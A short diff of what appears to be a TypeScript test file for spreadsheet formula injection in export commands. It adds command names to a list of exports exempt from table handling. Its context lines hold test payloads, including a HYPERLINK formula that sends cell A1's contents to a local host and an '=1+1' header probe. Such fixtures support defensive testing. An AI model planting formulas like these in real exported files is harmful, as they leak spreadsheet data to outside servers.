@@ -19,7 +19,10 @@ const PAYLOAD = `HYPERLINK("http://127.0.0.1/?"&A1,"x")`;
 const PHONE = "+86 136 0000 0001";
 const HEADER = "=1+1";
 /** Files for programs, which no spreadsheet runs; papers and pictures. */
-const NO_TABLES: CommandName[] = ["tickets.save", "keys.export", "templates.export"];
+const NO_TABLES: CommandName[] = [
+  ...(["tickets.save", "keys.export", "templates.export"] as const),
+  ...(["support.save", "lock.page", "guide.make"] as const),
+];
 
 let window: Page;
 let read: { draft: string };
